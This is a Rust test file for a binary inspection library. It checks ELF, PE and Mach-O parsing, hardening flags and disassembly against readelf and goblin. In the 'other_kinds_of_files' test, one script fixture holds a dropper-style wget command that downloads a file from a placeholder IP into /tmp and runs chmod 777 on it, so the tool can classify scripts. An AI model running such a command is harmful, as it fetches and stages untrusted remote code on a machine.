//! Known facts of real files, checked against what other tools say of them.
#![allow(clippy::unwrap_used, clippy::print_stderr)]

mod common;

use std::process::Command;

use common::{busybox, fixtures, guests, look, profiles, rules};
use hotcell_inspect::{Disassembler, Options, inspect};
use hotcell_schema::elf::{ElfInfo, FileKind, InstructionClass, Linkage, Relro};

#[test]
fn busybox_of_five_architectures() {
    // Debian architecture, profile, machine, flags, first instruction at the entry, its instruction set.
    let expected = [
        ("amd64", "x86_64", "X86_64", vec![], "xor ebp, ebp", ""),
        ("arm64", "aarch64", "AARCH64", vec![], "nop", ""),
        (
            "armhf",
            "arm",
            "ARM",
            vec!["hard-float", "eabi5"],
            "mov.w fp, #0",
            "thumb",
        ),
        (
            "armel",
            "arm",
            "ARM",
            vec!["soft-float", "eabi5"],
            "mov fp, #0",
            "",
        ),
        (
            "mipsel",
            "mipsel",
            "MIPS",
            vec!["noreorder", "pic", "cpic", "o32", "mips32r2"],
            "move $zero, $ra",
            "",
        ),
    ];
    for (debian, arch, machine, flags, first, mode) in expected {
        let Some(bytes) = busybox(debian) else { continue };
        let result = look(&bytes);
        let info = &result.info;
        assert_eq!(info.kind, FileKind::Elf, "{debian}");
        assert_eq!(info.linkage, Some(Linkage::Static), "{debian}");
        assert_eq!(info.arch.as_deref(), Some(arch), "{debian}");
        assert_eq!(info.interpreter, None, "{debian}");
        let header = info.header.as_ref().unwrap();
        assert_eq!(header.machine.name, machine, "{debian}");
        assert_eq!(header.flags.names, flags, "{debian}");
        let hardening = info.hardening.as_ref().unwrap();
        assert_eq!(
            (hardening.relro, hardening.pie),
            (Relro::Partial, false),
            "{debian}"
        );
        assert!(hardening.stripped, "{debian}");
        assert_eq!(info.build_id.as_ref().unwrap().0.len(), 20, "{debian}");
        assert!(!info.packer.packed, "{debian}: {:?}", info.packer);
        let text = info
            .sections
            .iter()
            .find(|section| section.name == ".text")
            .unwrap();
        assert!((5.0..7.5).contains(&text.entropy.unwrap()), "{debian}");
        assert!(
            info.strings
                .list
                .iter()
                .any(|found| found.text.starts_with("BusyBox v")),
            "{debian}"
        );
        let disassembly = info.disassembly.as_ref().unwrap();
        let entry = disassembly.entry.as_ref().unwrap();
        assert_eq!(
            (entry.instructions[0].text.as_str(), entry.mode.as_str()),
            (first, mode),
            "{debian}"
        );
        assert_eq!(entry.instructions.len(), 64, "{debian}");
        let classes = &disassembly.statistics.classes;
        let share = |class| {
            classes.get(&class).copied().unwrap_or(0) as f64 / disassembly.statistics.instructions as f64
        };
        assert!(share(InstructionClass::Invalid) < 0.02, "{debian}: {classes:?}");
        assert!(share(InstructionClass::Other) < 0.06, "{debian}: {classes:?}");
        assert!(share(InstructionClass::LoadStore) > 0.1, "{debian}: {classes:?}");
        // mipsel alone is built with an executable stack, by Debian's compiler of that time.
        let stack: &[&str] = if debian == "mipsel" {
            &["elf/executable-stack"]
        } else {
            &[]
        };
        assert_eq!(rules(&result), stack, "{debian}");
    }
}

#[test]
fn guests_of_every_architecture() {
    let profiles = profiles();
    for (folder, bytes) in guests("hello") {
        let result = look(&bytes);
        let info = &result.info;
        assert_eq!(info.linkage, Some(Linkage::Static), "{folder}");
        // `armhf` and `armel` are one profile; sparc64 has none.
        let named = profiles
            .iter()
            .find(|profile| profile.name == folder || profile.aliases.contains(&folder));
        assert_eq!(info.arch.as_ref(), named.map(|profile| &profile.name), "{folder}");
        let Some(profile) = named.filter(|profile| profile.capstone.is_some()) else {
            continue;
        };
        let disassembly = info.disassembly.as_ref().unwrap();
        let entry = disassembly.entry.as_ref().unwrap();
        let decoded = entry
            .instructions
            .iter()
            .take(8)
            .filter(|instruction| instruction.class != InstructionClass::Invalid)
            .count();
        assert!(
            decoded >= 6 || decoded == entry.instructions.len(),
            "{} {entry:?}",
            profile.name
        );
        let calls = disassembly.statistics.classes.get(&InstructionClass::Syscall);
        // The classes of s390x instructions are not told apart.
        if profile.name != "s390x" {
            assert!(
                calls.is_some_and(|&count| count > 0),
                "{folder}: {:?}",
                disassembly.statistics
            );
        }
        assert!(!rules(&result).contains(&"inspect/parser-panic"), "{folder}");
    }
}

#[test]
fn every_shipped_profile_disassembles() {
    for profile in profiles() {
        if let Some(capstone) = &profile.capstone {
            Disassembler::new(capstone, false).unwrap_or_else(|error| panic!("{}: {error}", profile.name));
        }
    }
}

/// Programs of this system, as far as they are there.
fn system_programs() -> Vec<(String, Vec<u8>)> {
    let names = [
        "/bin/true",
        "/bin/ls",
        "/bin/bash",
        "/bin/mount",
        "/bin/su",
        "/usr/bin/perl",
        "/usr/bin/ssh",
        "/usr/bin/find",
        "/usr/bin/gpg",
        "/usr/bin/openssl",
        "/usr/bin/python3",
        "/usr/bin/readelf",
        "/usr/bin/git",
        "/sbin/ldconfig",
        "/lib64/ld-linux-x86-64.so.2",
        "/lib/x86_64-linux-gnu/libc.so.6",
        "/lib/x86_64-linux-gnu/libz.so.1",
    ];
    names
        .into_iter()
        .filter_map(|name| Some((name.to_owned(), std::fs::read(name).ok()?)))
        .filter(|(_, bytes)| bytes.starts_with(b"\x7fELF"))
        .collect()
}

/// Without strings and disassembly.
fn headers_only(bytes: &[u8]) -> ElfInfo {
    let options = Options {
        max_strings: 0,
        disassemble: false,
    };
    inspect(bytes, &profiles(), &options).info
}

fn readelf(arguments: &[&str], path: &str) -> Option<String> {
    let output = Command::new("readelf")
        .args(arguments)
        .arg(path)
        .env("LC_ALL", "C")
        .output();
    match output {
        Ok(output) => Some(String::from_utf8_lossy(&output.stdout).into_owned()),
        Err(error) => {
            eprintln!("SKIPPED: readelf: {error} (apt install binutils)");
            None
        }
    }
}

/// Hardening, library names, symbol and relocation counts of system programs are what readelf says.
#[test]
fn agrees_with_readelf() {
    for (path, bytes) in system_programs() {
        let (Some(headers), Some(dynamic), Some(symbols)) = (
            readelf(&["-hlW"], &path),
            readelf(&["-dW"], &path),
            readelf(&["-sW"], &path),
        ) else {
            return;
        };
        let info = headers_only(&bytes);
        let hardening = info.hardening.as_ref().unwrap();
        let line =
            |text: &str, begin: &str| text.lines().find(|line| line.contains(begin)).map(str::to_owned);

        let stack = line(&headers, "GNU_STACK");
        assert_eq!(
            hardening.nx,
            stack.map(|stack| !stack.contains("RWE")),
            "{path}: NX"
        );
        let now = dynamic.contains("BIND_NOW") || dynamic.contains(" NOW");
        let relro = match (headers.contains("GNU_RELRO"), now) {
            (true, true) => Relro::Full,
            (true, false) => Relro::Partial,
            _ => Relro::None,
        };
        assert_eq!(hardening.relro, relro, "{path}: RELRO");
        let pie = headers.contains("DYN (Position-Independent Executable file)")
            && (dynamic.contains(" PIE") || dynamic.contains("(DEBUG)"));
        assert_eq!(hardening.pie, pie, "{path}: PIE");
        // Without symbols nothing can be told.
        let told = info.symbols.total > 0;
        let canary = told.then(|| symbols.contains("__stack_chk_fail"));
        assert_eq!(hardening.canary, canary, "{path}: canary");
        let fortified = symbols
            .split_whitespace()
            .any(|word| word.starts_with("__") && word.split('@').next().unwrap().ends_with("_chk"));
        assert_eq!(hardening.fortify, told.then_some(fortified), "{path}: FORTIFY");
        assert_eq!(
            hardening.stripped,
            !symbols.contains("'.symtab'"),
            "{path}: stripped"
        );
        assert_eq!(
            hardening.runpath.is_some(),
            dynamic.contains("(RUNPATH)"),
            "{path}: RUNPATH"
        );

        let libraries: Vec<String> = dynamic
            .lines()
            .filter(|line| line.contains("(NEEDED)"))
            .filter_map(|line| Some(line.split('[').nth(1)?.trim_end_matches(']').to_owned()))
            .collect();
        assert_eq!(info.imports.libraries, libraries, "{path}");
        let interpreter = line(&headers, "Requesting program interpreter")
            .map(|line| line.split(": ").nth(1).unwrap().trim_end_matches(']').to_owned());
        assert_eq!(info.interpreter, interpreter, "{path}");
        let entries: u64 = symbols
            .lines()
            .filter(|line| line.starts_with("Symbol table"))
            .filter_map(|line| {
                let words: Vec<&str> = line.split_whitespace().collect();
                let place = words.iter().position(|&word| word == "contains")?;
                words.get(place + 1)?.parse::<u64>().ok()
            })
            .map(|count| count - 1)
            .sum();
        assert_eq!(info.symbols.total, entries, "{path}: symbols");
        let relocations = readelf(&["-rW"], &path).unwrap();
        let relocations: u64 = relocations
            .lines()
            .filter(|line| line.starts_with("Relocation section") && !line.contains(".relr"))
            .filter_map(|line| {
                let words: Vec<&str> = line.split_whitespace().collect();
                let place = words.iter().position(|&word| word == "contains")?;
                words.get(place + 1)?.parse::<u64>().ok()
            })
            .sum();
        assert_eq!(info.relocations.total, relocations, "{path}: relocations");
        let entry = line(&headers, "Entry point address").unwrap();
        let entry = entry.split_whitespace().last().unwrap().to_owned();
        assert_eq!(info.header.unwrap().entry.to_string(), entry, "{path}: entry");
    }
}

/// Well-formed files: the tolerant walk finds what goblin's own reader finds.
#[test]
fn agrees_with_goblin() {
    for (path, bytes) in system_programs() {
        let theirs = goblin::elf::Elf::parse(&bytes).unwrap();
        let ours = headers_only(&bytes);
        let names: Vec<_> = theirs
            .section_headers
            .iter()
            .map(|section| theirs.shdr_strtab.get_at(section.sh_name).unwrap())
            .collect();
        assert_eq!(
            ours.sections
                .iter()
                .map(|section| section.name.as_str())
                .collect::<Vec<_>>(),
            names,
            "{path}"
        );
        assert_eq!(ours.segments.len(), theirs.program_headers.len(), "{path}");
        assert_eq!(
            ours.symbols.total,
            (theirs.dynsyms.len() + theirs.syms.len()) as u64
                - u64::from(!theirs.dynsyms.is_empty())
                - u64::from(!theirs.syms.is_empty()),
            "{path}"
        );
        assert_eq!(ours.imports.libraries, theirs.libraries, "{path}");
    }
}

/// Without its section table a program still tells symbols, libraries and relocations, by its dynamic table.
#[test]
fn sections_are_not_needed() {
    let Some((path, mut bytes)) = system_programs().into_iter().find(|(path, _)| path == "/bin/ls") else {
        eprintln!("SKIPPED: no /bin/ls of ELF");
        return;
    };
    let with = look(&bytes).info;
    bytes[40..48].fill(0);
    bytes[60..64].fill(0);
    let result = look(&bytes);
    let without = &result.info;
    assert!(rules(&result).contains(&"elf/no-section-headers"), "{path}");
    assert_eq!(without.imports, with.imports);
    assert_eq!(without.relocations.total, with.relocations.total);
    assert_eq!(without.hardening, with.hardening);
    assert_eq!(without.build_id, with.build_id);
    assert!(!without.packer.packed);
}

#[test]
fn a_pe_file() {
    let result = look(&fixtures::pe());
    assert_eq!(rules(&result), [""; 0]);
    let info = result.info;
    assert_eq!((info.kind, info.variant.as_str()), (FileKind::Pe, "pe32+"));
    assert_eq!(info.arch.as_deref(), Some("x86_64"));
    let header = info.header.unwrap();
    assert_eq!(header.machine.name, "AMD64");
    assert_eq!(header.file_type.name, "executable");
    assert_eq!(header.os_abi.name, "WINDOWS_CUI");
    assert_eq!(header.timestamp, Some(1_600_000_000));
    assert_eq!(
        (header.entry.0, header.entry_offset),
        (0x1_4000_1000, Some(0x200))
    );
    assert_eq!(info.imports.libraries, ["KERNEL32.dll"]);
    assert_eq!(
        info.imports.functions,
        ["KERNEL32.dll!#7", "KERNEL32.dll!ExitProcess"]
    );
    assert_eq!(info.sections[0].flags, ["code", "exec", "read"]);
    let entry = info.disassembly.unwrap().entry.unwrap();
    assert_eq!(entry.instructions[0].text, "xor eax, eax");

    let mut file = fixtures::pe();
    common::put(&mut file, 0x98 + 16, &[0, 0x20]);
    common::put(&mut file, 0x188 + 36, &0xe000_0020u32.to_le_bytes());
    common::put(&mut file, 0x188 + 40 + 20, &[0, 0, 1]);
    let result = look(&file);
    assert_eq!(
        rules(&result),
        [
            "pe/bad-imports",
            "pe/entry-outside-code",
            "pe/section-past-end",
            "pe/writable-executable-section"
        ]
    );
}

#[test]
fn a_mach_o_file_alone_and_in_a_universal_one() {
    for (bytes, base, expected) in [
        (fixtures::macho(), 0, &[][..]),
        (fixtures::fat(), 0x1000, &["mach-o/slice-past-end"][..]),
    ] {
        let result = look(&bytes);
        assert_eq!(rules(&result), expected);
        let info = result.info;
        assert_eq!(info.kind, FileKind::MachO);
        assert_eq!(info.arch.as_deref(), Some("aarch64"));
        let header = info.header.unwrap();
        assert_eq!(
            (header.machine.name.as_str(), header.file_type.name.as_str()),
            ("ARM64", "execute")
        );
        assert_eq!(
            (header.entry.0, header.entry_offset),
            (0x1_0000_0300, Some(base + 0x300))
        );
        assert_eq!(header.flags.names, ["noundefs", "dyldlink", "twolevel", "pie"]);
        assert_eq!(info.segments[0].permissions, "r-x");
        assert_eq!(info.sections[0].name, "__TEXT,__text");
        assert_eq!(info.imports.libraries, ["/usr/lib/libSystem.B.dylib"]);
        assert_eq!(info.imports.functions, ["_puts"]);
        assert_eq!(info.build_id.unwrap().0, b"0123456789abcdef");
        assert_eq!(info.linkage, Some(Linkage::Dynamic));
        let disassembly = info.disassembly.unwrap();
        assert_eq!(disassembly.functions[0].name.as_deref(), Some("_main"));
        assert_eq!(
            disassembly.entry.unwrap().instructions[1].class,
            InstructionClass::Return
        );
    }
    assert_eq!(look(&fixtures::fat()).info.slices.len(), 2);
}

#[test]
fn other_kinds_of_files() {
    let script = look(b"#!/bin/sh\nwget http://198.51.100.7/x -O /tmp/x; chmod 777 /tmp/x\n").info;
    assert_eq!(script.kind, FileKind::Script);
    assert_eq!(script.interpreter.as_deref(), Some("/bin/sh"));
    assert_eq!(script.strings.list[0].kind.as_str(), "command");
    let empty = look(b"").info;
    assert_eq!(
        (empty.kind, empty.md5.as_str()),
        (FileKind::Raw, "d41d8cd98f00b204e9800998ecf8427e")
    );
    assert_eq!(empty.sha1, "da39a3ee5e6b4b0d3255bfef95601890afd80709");
    let zip = look(b"PK\x03\x04rest").info;
    assert_eq!((zip.kind, zip.variant.as_str()), (FileKind::Archive, "zip"));
}
